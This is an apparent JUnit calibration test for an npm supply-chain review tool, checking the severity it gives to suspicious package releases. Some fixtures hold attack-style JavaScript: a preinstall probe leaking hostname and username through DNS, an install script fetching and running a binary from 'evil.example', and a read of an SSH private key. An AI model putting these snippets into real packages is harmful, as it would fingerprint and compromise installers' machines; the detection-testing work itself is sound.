package dev.warden.review;

import static dev.warden.review.Reviews.find;
import static dev.warden.review.Reviews.review;
import static dev.warden.review.Reviews.the;

import static org.assertj.core.api.Assertions.assertThat;

import dev.warden.common.Digests;

import org.junit.jupiter.api.Test;

import java.nio.charset.StandardCharsets;

/**
 * Combinations and severities set against the evaluation corpora: each attack pattern they catch,
 * and the benign release each one must leave alone.
 */
class CalibrationTest {

    private static final Pkg LIB = Pkg.of("1.0.0").file("index.js", "module.exports = {};\n");

    private static Subject.Publisher newMaintainer(String user) {
        return new Subject.Publisher(
                user, false, true, false, true, null, "198.51.100.61", true, null, false);
    }

    @Test
    void hostAndUserNameSentInDnsLookupsAtInstallAreCritical() {
        // a dependency-confusion probe
        Pkg probe =
                LIB.next("9998.9999.9")
                        .script("preinstall", "node index.js")
                        .file(
                                "index.js",
                                "const os = require('os');\nconst dns = require('dns');\n"
                                        + "const hex = Buffer.from(os.hostname() + '.' +"
                                        + " os.userInfo().username).toString('hex');\n"
                                        + "dns.lookup(hex + '.collab.invalid', () => {});\n");

        Finding f = the(review(LIB, probe), "install-time-fingerprinting");
        assertThat(f.severity()).isEqualTo(Severity.CRITICAL);
        assertThat(f.evidence().get(0).excerpt()).contains("hostname()");
    }

    @Test
    void theHomeDirectoryAloneAtInstallIsNoFingerprint() {
        Pkg cache =
                LIB.next("1.0.1")
                        .script("postinstall", "node setup.js")
                        .file(
                                "setup.js",
                                "const dir = require('os').homedir() + '/.cache/widget';\n"
                                        + "require('https').get('https://x.invalid/v.json');\n");

        assertThat(find(review(LIB, cache), "install-time-fingerprinting")).isEmpty();
    }

    @Test
    void aNewMaintainersFirstReleaseAddingADaysOldDependencyIsHigh() {
        // event-stream 3.3.6 and flatmap-stream
        FakeEcosystem eco =
                new FakeEcosystem().with("flatmap-stream", Pkg.NOW.minusSeconds(86400), 0);
        Pkg next = LIB.next("1.0.1").dep("flatmap-stream", "^0.1.0");

        Findings f =
                new Reviewer(ReviewSettings.DEFAULTS, eco)
                        .examine(next.release(LIB, newMaintainer("right9ctrl")));

        assertThat(the(f, "new-maintainer-adds-young-dependency").severity())
                .isEqualTo(Severity.HIGH);
        // the same dependency added by a long-standing maintainer is only flagged
        assertThat(find(review(LIB, next, eco), "new-maintainer-adds-young-dependency")).isEmpty();
    }

    @Test
    void aPrepareScriptByANewMaintainerIsNotInstallTimeCode() {
        Pkg next = LIB.next("1.0.1").script("prepare", "tsc");
        Findings f =
                new Reviewer(ReviewSettings.DEFAULTS, new FakeEcosystem())
                        .examine(next.release(LIB, newMaintainer("bob")));

        assertThat(find(f, "install-script-by-new-publisher")).isEmpty();
        Findings post =
                new Reviewer(ReviewSettings.DEFAULTS, new FakeEcosystem())
                        .examine(
                                LIB.next("1.0.1")
                                        .script("postinstall", "node x.js")
                                        .release(LIB, newMaintainer("bob")));
        assertThat(the(post, "install-script-by-new-publisher").severity())
                .isEqualTo(Severity.HIGH);
    }

    @Test
    void anUnknownPublisherIsNoNewMaintainer() {
        Findings f =
                new Reviewer(ReviewSettings.DEFAULTS, new FakeEcosystem())
                        .examine(LIB.next("1.0.1").release(LIB, newMaintainer(null)));

        assertThat(find(f, "new-maintainer-publish")).isEmpty();
    }

    @Test
    void aWorkflowNameAndNpmrcInACommentAreNoWorm() {
        // next 16.5.0: an upgrade helper that writes its own workflow, and a comment about .npmrc
        Pkg next =
                LIB.next("1.0.1")
                        .file(
                                "setup-ci.js",
                                "const fs = require('fs');\n"
                                        + "const WORKFLOW = '.github/workflows/upgrade.yml';\n"
                                        + "fs.writeFileSync(WORKFLOW, yaml);\n")
                        .file(
                                "release-age.js",
                                "// Older npm also prints unknown .npmrc keys; ignore them.\n"
                                        + "run('npm publish');\n");

        assertThat(find(review(LIB, next), "worm-behaviour")).isEmpty();
    }

    @Test
    void anInstallFetchUnchangedSinceThePreviousReleaseIsNotNew() {
        // esbuild's install.js: a long-standing fallback download from the registry
        String install =
                "const https = require('https');\nconst fs = require('fs');\n"
                        + "const { execSync } = require('child_process');\n"
                        + "function fetch(url) { return https.get(url); }\n"
                        + "fetch('https://registry.example.invalid/pkg.tgz');\n"
                        + "fs.writeFileSync('bin/tool', data);\nfs.chmodSync('bin/tool', 0o755);\n"
                        + "execSync('bin/tool --version');\n";
        Pkg before =
                LIB.next("0.28.0")
                        .script("postinstall", "node install.js")
                        .file("install.js", install);
        Pkg after = before.next("0.28.1").file("install.js", "// 0.28.1\n" + install);

        assertThat(find(review(before, after), "install-script-fetches-and-runs")).isEmpty();

        Pkg elsewhere =
                before.next("0.28.1")
                        .file("install.js", install.replace("registry.example", "evil.example"));
        assertThat(the(review(before, elsewhere), "install-script-fetches-and-runs").severity())
                .isEqualTo(Severity.HIGH);
    }

    @Test
    void aDataFileInOneOtherPackageIsNoSpreadingAndCodeInOneIsOnlyMedium() {
        // resolve and is-core-module share lib/core.json
        String json = "{\n" + "  \"fs\": true,\n".repeat(60) + "  \"os\": true\n}\n";
        String code = "module.exports = function () {\n" + "  step();\n".repeat(80) + "};\n";
        FakeEcosystem eco = new FakeEcosystem();
        eco.spread.put(Digests.sha256Hex(json.getBytes(StandardCharsets.UTF_8)), 1);
        eco.spread.put(Digests.sha256Hex(code.getBytes(StandardCharsets.UTF_8)), 1);

        assertThat(
                        find(
                                review(LIB, LIB.next("1.0.1").file("lib/core.json", json), eco),
                                "file-spreading"))
                .isEmpty();
        assertThat(
                        the(
                                        review(LIB, LIB.next("1.0.1").file("lib/x.js", code), eco),
                                        "file-spreading")
                                .severity())
                .isEqualTo(Severity.MEDIUM);
        eco.spread.put(Digests.sha256Hex(code.getBytes(StandardCharsets.UTF_8)), 2);
        assertThat(
                        the(
                                        review(LIB, LIB.next("1.0.1").file("lib/x.js", code), eco),
                                        "file-spreading")
                                .severity())
                .isEqualTo(Severity.HIGH);
    }

    @Test
    void aKeyTypeInAConstantsNameIsNoCredentialFile() {
        Pkg next =
                LIB.next("1.0.1").file("errors.js", "var INVALID_ED25519_PUBLIC_KEY = 2800003;\n");
        assertThat(find(review(LIB, next), "credential-file-access")).isEmpty();
        Pkg ssh = LIB.next("1.0.1").file("keys.js", "read(home + '/.ssh/id_ed25519');\n");
        assertThat(the(review(LIB, ssh), "credential-file-access").severity())
                .isEqualTo(Severity.MEDIUM);
    }

    @Test
    void choosingDebugVariablesFromTheEnvironmentIsOnlyLow() {
        Pkg next =
                LIB.next("1.0.1")
                        .file(
                                "debug.js",
                                "const keys = Object.keys(process.env).filter(k =>"
                                        + " /^debug_/i.test(k));\n");
        assertThat(the(review(LIB, next), "environment-serialised").severity())
                .isEqualTo(Severity.LOW);
    }

    @Test
    void newBinariesInAPackageThatShippedBinariesAreOnlyLow() {
        byte[] elf = {0x7f, 'E', 'L', 'F', 2, 1, 1, 0, 0, 0};
        Pkg before = LIB.next("0.35.4").file("lib/sharp-0.35.4.node", elf);
        Pkg after = LIB.next("0.35.5").file("lib/sharp-0.35.5.node", elf);

        assertThat(the(review(before, after), "binary-added").severity()).isEqualTo(Severity.LOW);
        assertThat(the(review(LIB, after), "binary-added").severity()).isEqualTo(Severity.MEDIUM);
    }

    @Test
    void typeDeclarationsAreNotCode() {
        assertThat(Release.isCode("dist/index.d.cts", null)).isFalse();
        assertThat(Release.isCode("dist/index.d.mts", null)).isFalse();
        assertThat(Release.isCode("dist/index.cts", null)).isTrue();
    }
}
